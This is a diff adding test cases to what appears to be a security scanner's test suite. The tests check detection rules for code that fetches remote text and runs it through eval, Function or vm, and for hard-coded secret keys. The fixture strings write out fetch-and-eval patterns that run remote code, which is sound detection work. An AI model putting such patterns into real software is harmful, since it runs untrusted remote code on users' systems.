@@ -275,3 +275,30 @@ TEST_CASE("loop variables carry what they iterate") {
   check_no_matches({{"ok.py", "for name in users:\n    requests.get(f'https://api.example.com/u/{name}')\n",
                      "code.exfil.env-to-network"}});
 }
+
+TEST_CASE("text a promise chain fetched, passed to eval/Function/vm by a .then callback, is fetched code") {
+  check_matches({
+      {"src/index.js", "fetch('https://x.example.com/u').then(r => r.text()).then(code => eval(code));\n",
+       "code.exec.fetched-code"},
+      {"src/a.ts", "axios.get(u).then(function (res) { new Function(res.data)(); });\n", "code.exec.fetched-code"},
+      {"src/b.js", "fetch(u).then(r => r.text()).then((src) => { vm.runInThisContext(src); });\n",
+       "code.exec.fetched-code"},
+  });
+  check_no_matches({
+      {"src/index.js", "readFile('plugin.js').then(code => eval(code));\n", "code.exec.fetched-code"},
+      {"src/c.js", "fetch(u).then(r => r.json()).then(data => render(data));\n", "code.exec.fetched-code"},
+      {"src/d.js", "fetch(u).then(r => r.text()).then(text => eval(localExpr));\n", "code.exec.fetched-code"},
+  });
+}
+
+TEST_CASE("a secret-named variable given a random literal is flagged even with EXAMPLE glued inside") {
+  check_matches({
+      {"cfg.py", "AWS_SECRET_ACCESS_KEY = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"\n",
+       "code.secret.high-entropy-assignment"},
+  });
+  check_no_matches({
+      {"cfg.py", "API_TOKEN = \"example-token-value-1\"\nSECRET = \"your-secret-example\"\n",
+       "code.secret.high-entropy-assignment"},
+      {"cfg.py", "AWS_REGION = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"\n", "code.secret.high-entropy-assignment"},
+  });
+}
